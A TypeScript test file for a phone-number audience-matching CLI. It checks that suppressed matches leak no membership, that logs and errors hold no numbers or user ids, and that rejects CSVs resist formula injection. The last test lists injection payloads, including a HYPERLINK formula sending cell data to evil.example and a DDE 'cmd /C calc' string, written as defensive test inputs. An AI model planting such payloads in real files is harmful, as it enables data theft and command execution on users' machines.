/**
 * What the CLI must never give away: below the minimum audience, nothing in any output tells which
 * uploaded numbers are on the platform; no phone number or user id reaches a log or an error; the
 * CSV the tool writes cannot run as a spreadsheet formula.
 */
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { normalizePhoneReference } from '@rollcall/phone';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import {
  type CliRun,
  makePlatform,
  matchArgs,
  matchInProcess,
  outputPath,
  type Platform,
  parseCsv,
  readJsonOutput,
  readOutput,
  removeScratchDirs,
  rollcallInProcess,
  STACK_TRACE_LINE,
  scratchDir,
  writeUpload,
} from './helpers.js';

// 'a worker that fails for good' below: the join pool's threads run the faulty fixture, which
// injects what ROLLCALL_TEST_FAULTS asks for and otherwise passes every task through.
vi.mock('../../threads/src/index.ts', async (original) =>
  (await import('../../join/test/fixtures/faults.js')).withFaultyJoinWorker(original),
);

afterAll(removeScratchDirs);

let platform: Platform;

beforeAll(async () => {
  platform = await makePlatform({ entries: 500, seed: 31, withSha256: true });
});

/**
 * `count` numbers on the platform (some opted out) and, for each, a number of the same country and
 * length that is valid and not on the platform: two uploads a prober could not tell apart by shape.
 */
function membersAndStrangers(count: number): { members: string[]; strangers: string[] } {
  const onPlatform = new Set(platform.entries.map((e) => e.phone));
  const members: string[] = [];
  const strangers: string[] = [];
  for (const entry of platform.entries) {
    if (members.length === count) break;
    if (!normalizePhoneReference(entry.phone, { defaultCountry: 'GB' }).ok) continue;
    const prefix = entry.phone.slice(0, -3);
    for (let n = 0; n < 1000; n++) {
      const candidate = `${prefix}${String((Number(entry.phone.slice(-3)) + 1 + n) % 1000).padStart(3, '0')}`;
      const r = normalizePhoneReference(candidate, { defaultCountry: 'GB' });
      if (r.ok && r.e164 === candidate && !onPlatform.has(candidate)) {
        members.push(entry.phone);
        strangers.push(candidate);
        break;
      }
    }
  }
  return { members, strangers };
}

const JUNK_ROWS = ['', 'N/A', '=HYPERLINK("x")', '12', '+999 123 4567'];

/** A report without the fields that are timings (they differ run to run, whatever the data). */
function withoutTimings(report: Record<string, unknown>): Record<string, unknown> {
  const { timings_ms: _t, rows_per_second: _r, ...rest } = report;
  return rest;
}

/** The HTML report with its timing fields (and any bar drawn from them) made neutral. */
function neutralHtml(html: string): string {
  return html
    .replace(/(data-field="(?:rows_per_second|\w+_ms)" data-value=")[^"]*(">)[^<]*/g, '$1<t>$2<t>')
    .replace(/<svg class="bar bar-stages"[\s\S]*?<\/svg>/g, '<time by stage>');
}

/** Output with timings and the run's own paths made neutral. */
function neutral(text: string, dir: string): string {
  return text
    .replaceAll(dir, '<dir>')
    .replace(/^threads .*$/m, 'threads <timings>')
    .replace(/\d[\d,]* rows\/s, \d+(\.\d+)? ms/g, '<timings>');
}

async function run(dir: string, cells: string[], extra: string[] = []): Promise<CliRun> {
  const upload = writeUpload(
    dir,
    `name,phone\n${cells.map((c, i) => `n${i},"${c.replaceAll('"', '""')}"`).join('\n')}\n`,
  );
  return matchInProcess({
    index: platform.indexFile,
    upload,
    dir,
    outputs: ['report', 'rejects', 'html'],
    minAudience: null,
    quiet: false,
    extra,
  });
}

/** What a run in `dir` showed a prober: exit, output, report, rejects, page and files, timings and paths made neutral. */
function outcomeOf(dir: string, r: CliRun) {
  const report = readJsonOutput(dir, 'report');
  return {
    status: r.status,
    stdout: neutral(r.stdout, dir),
    stderr: neutral(r.stderr, dir),
    report: withoutTimings({ ...report, upload: { ...report.upload, file: null } }),
    rejects: readOutput(dir, 'rejects'),
    html: neutralHtml(readOutput(dir, 'html').replaceAll(dir, '<dir>')),
    files: readdirSync(dir).sort(),
  };
}

describe('below the minimum audience nothing tells who is on the platform', () => {
  test('members vs strangers of the same shape: identical exit, stdout, stderr, report and rejects', async () => {
    const { members, strangers } = membersAndStrangers(60);
    expect(members).toHaveLength(60);
    // The members include opted-out users: their count is withheld too.
    const optedOut = platform.entries.filter((e) => members.includes(e.phone) && e.optedOut).length;
    expect(optedOut).toBeGreaterThan(0);
    const outcomes = [];
    for (const cells of [members, strangers]) {
      const dir = scratchDir();
      outcomes.push(outcomeOf(dir, await run(dir, [...cells, ...JUNK_ROWS, ...cells.slice(0, 5)])));
    }
    expect(outcomes[0]!.status).toBe(3);
    expect(outcomes[0]!.files).toEqual(['rejects.csv', 'report.html', 'report.json', 'upload.csv']);
    expect(outcomes[0]!.report).toMatchObject({
      suppressed: true,
      matched: null,
      opted_out_dropped: null,
      audience: null,
      match_rate: null,
    });
    expect(outcomes[1]).toEqual(outcomes[0]);
  });

  test('the same for hashed uploads (--hashed google)', async () => {
    const { createHash } = await import('node:crypto');
    const { members, strangers } = membersAndStrangers(40);
    const hash = (e164: string) => createHash('sha256').update(e164).digest('hex');
    const outcomes = [];
    for (const cells of [members, strangers]) {
      const dir = scratchDir();
      const r = await run(dir, [...cells.map(hash), 'not-a-hash', ''], ['--hashed', 'google']);
      outcomes.push(outcomeOf(dir, r));
    }
    expect(outcomes[0]!.status).toBe(3);
    expect(outcomes[1]).toEqual(outcomes[0]);
  });

  test('the floor is moved by a secret offset per upload: released exactly when the audit says the audience reached it', async () => {
    const { members } = membersAndStrangers(40);
    const probe = scratchDir();
    await run(probe, members, ['--min-audience', '1', '--audit', outputPath(probe, 'audit')]);
    const k = readJsonOutput(probe, 'audit').audience as number;
    expect(k).toBeGreaterThan(10);
    const outcomes = new Set<number>();
    for (let i = 0; i < 6; i++) {
      // A fresh ledger each time: a fresh secret, so a fresh draw of the floor's offset.
      const dir = scratchDir();
      const r = await run(dir, members, [
        '--min-audience',
        String(k),
        '--ledger',
        join(dir, 'ledger.jsonl'),
        '--audit',
        outputPath(dir, 'audit'),
        '--quiet',
      ]);
      const audit = readJsonOutput(dir, 'audit');
      const floor = audit.release.floor as number;
      expect(floor).toBeGreaterThanOrEqual(Math.floor(0.75 * k));
      expect(floor).toBeLessThanOrEqual(Math.ceil(1.25 * k));
      expect(r.status).toBe(audit.audience >= floor ? 0 : 3);
      expect(existsSync(outputPath(dir, 'audience'))).toBe(r.status === 0);
      outcomes.add(r.status ?? -1);
    }
  });

  test('a suppressed match leaves an existing --out file as it was (never replaced, never emptied)', async () => {
    const dir = scratchDir();
    writeFileSync(outputPath(dir, 'audience'), 'yesterday\n');
    const r = await run(dir, membersAndStrangers(5).members, ['--quiet']);
    expect(r.status).toBe(3);
    expect(readOutput(dir, 'audience')).toBe('yesterday\n');
  });

  test('--min-audience below 1 or not an integer is refused: the floor cannot be switched off', async () => {
    for (const k of ['0', '-1', '1.5', 'abc', '']) {
      const dir = scratchDir();
      const r = await run(dir, ['+447400123456'], ['--min-audience', k]);
      expect({ k, status: r.status }).toEqual({ k, status: 2 });
      expect(r.stderr).toMatch(/--min-audience: must be an integer ≥ 1/);
      expect(readdirSync(dir)).toEqual(['upload.csv']);
    }
  });
});

describe('no phone number or user id in any log or error', () => {
  /** The ways a number could appear: its E.164 digits, its national significant number; every user id. */
  function secrets(): string[] {
    return [
      ...platform.entries.flatMap((e) => [e.phone.slice(1), e.phone.slice(-9)]),
      ...platform.entries.map((e) => String(e.userId)),
    ];
  }

  /** Text with the separators a number may be printed with removed, so `+44 7400 123456` is caught too. */
  function compact(text: string): string {
    return text.replace(/[\s\u00a0().\-/]/g, '');
  }

  test('stdout and stderr of a battery of runs, good and bad, hold none of the platform’s numbers', async () => {
    const dir = scratchDir();
    const entries = platform.entries;
    const [a, b, c] = entries;
    const file = (name: string, text: string) => writeUpload(dir, text, name);
    const upload = file(
      'upload.csv',
      `name,phone\n${entries.map((e, i) => `n${i},${e.phone}`).join('\n')}\n`,
    );
    const out = (name: string) => join(dir, name);
    const index = platform.indexFile;
    const m = (up: string, ...extra: string[]) =>
      matchArgs({ index, upload: up, dir, outputs: [], minAudience: null, quiet: false, extra });
    const runs: Array<[string, string[], Record<string, string>?]> = [
      ['a released match', m(upload, '--min-audience', '1')],
      ['a suppressed match', m(file('few.csv', `phone\n${a!.phone}\n${b!.phone}\n`))],
      ['a headerless upload', m(file('headerless.csv', `${a!.phone},${b!.phone}\n${c!.phone},x\n`))],
      ['--phone-column naming no header', m(file('h.csv', `${a!.phone},x\n`), '--phone-column', 'phone')],
      ['an unterminated quote', m(file('q.csv', `phone\n"${a!.phone}\n${b!.phone}\n`))],
      [
        'a worker that fails for good',
        m(upload, '--min-audience', '1'),
        { ROLLCALL_TEST_FAULTS: '{"failOnSeq":0}' },
      ],
      ['index inspect', ['index', 'inspect', index]],
      ['index inspect --json', ['index', 'inspect', index, '--json']],
      [
        'index build: duplicate phone',
        [
          'index',
          'build',
          file(
            'dup.csv',
            `phone,user_id,opted_out\n${a!.phone},${a!.userId},false\n${a!.phone},${b!.userId},false\n`,
          ),
          '-o',
          out('x.idx'),
        ],
      ],
      [
        'index build: a user id out of range',
        [
          'index',
          'build',
          file('uid.csv', `phone,user_id,opted_out\n${a!.phone},${a!.userId}0000,false\n`),
          '-o',
          out('x.idx'),
        ],
      ],
      [
        'index build: a user id with a stray letter',
        [
          'index',
          'build',
          file('uid2.csv', `phone,user_id,opted_out\n${a!.phone},${a!.userId}x,false\n`),
          '-o',
          out('x.idx'),
        ],
      ],
      [
        'index build: a CSV syntax error (the parser quotes the row)',
        [
          'index',
          'build',
          file('syntax.csv', `phone,user_id,opted_out\n"${a!.phone},${a!.userId},false\n`),
          '-o',
          out('x.idx'),
        ],
      ],
      [
        'index build: a phone without +',
        [
          'index',
          'build',
          file('plus.csv', `phone,user_id,opted_out\n${a!.phone.slice(1)},${a!.userId},false\n`),
          '-o',
          out('x.idx'),
        ],
      ],
      [
        'index optout: a bad flag',
        ['index', 'optout', index, file('opt.csv', `phone,opted_out\n${a!.phone},perhaps\n`)],
      ],
      [
        'index optout: a phone not in E.164',
        ['index', 'optout', index, file('opt2.csv', `phone,opted_out\n0${a!.phone.slice(3)},true\n`)],
      ],
    ];
    const leaks: string[] = [];
    const all = secrets();
    for (const [what, args, env] of runs) {
      const r = await rollcallInProcess(args, env ? { env } : {});
      expect({ what, trace: STACK_TRACE_LINE.test(r.stderr) }).toEqual({ what, trace: false });
      const text = compact(r.stdout + r.stderr);
      for (const secret of all) if (text.includes(secret)) leaks.push(`${what}: ${secret}`);
    }
    expect(leaks).toEqual([]);
  });

  test('the report holds no number either, even for rejects (examples are redacted)', async () => {
    const dir = scratchDir();
    // Spellings that are rejected although they hold a platform number in full.
    const cells = platform.entries.slice(0, 50).map((e, i) => (i % 2 ? `'${e.phone}` : `${e.phone}99`));
    const r = await run(dir, cells, ['--min-audience', '1', '--quiet']);
    expect(r.status).toBe(3);
    const report = compact(readFileSync(outputPath(dir, 'report'), 'utf8'));
    const leaked = secrets().filter((s) => report.includes(s));
    expect(leaked).toEqual([]);
  });
});

describe('the rejects CSV cannot run as a spreadsheet formula', () => {
  const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
  const NASTY = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '+cmd|" /C calc"!A0',
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    'ok;=1+1', // a `;` locale splits here
    'ok,=1+1',
    'ok\t=1+1', // pasting splits at tabs
    'ok\n=1+1', // where quotes are not honoured, a new row starts here
    ' =1+1',
  ];

  function fieldsStartingWithTrigger(text: string, delimiter: string): string[] {
    return parseCsv(text, delimiter)
      .flat()
      .filter((f) => TRIGGERS.includes(f[0] ?? ''));
  }

  test('every field starts as text whether the file is read with `,`, `;` or tab, or line by line', async () => {
    const dir = scratchDir();
    const r = await run(dir, NASTY, ['--min-audience', '1', '--quiet']);
    expect(r.status).toBe(3);
    const rejects = readOutput(dir, 'rejects');
    const rows = parseCsv(rejects).slice(1);
    // Every cell is rejected, in order, and reads back as the cell with `'` put before each trigger.
    expect(rows.map((row) => row[1]!.replaceAll("'", ''))).toEqual(NASTY);
    for (const delimiter of [',', ';', '\t']) {
      expect({ delimiter, fields: fieldsStartingWithTrigger(rejects, delimiter) }).toEqual({
        delimiter,
        fields: [],
      });
    }
    // Read with no quoting at all: each physical line split at every delimiter.
    const naive = rejects.split(/\r\n|\r|\n/).flatMap((line) => line.split(/[,;\t]/));
    expect(naive.filter((f) => TRIGGERS.includes(f.replace(/^"/, '')[0] ?? ''))).toEqual([]);
  });
});
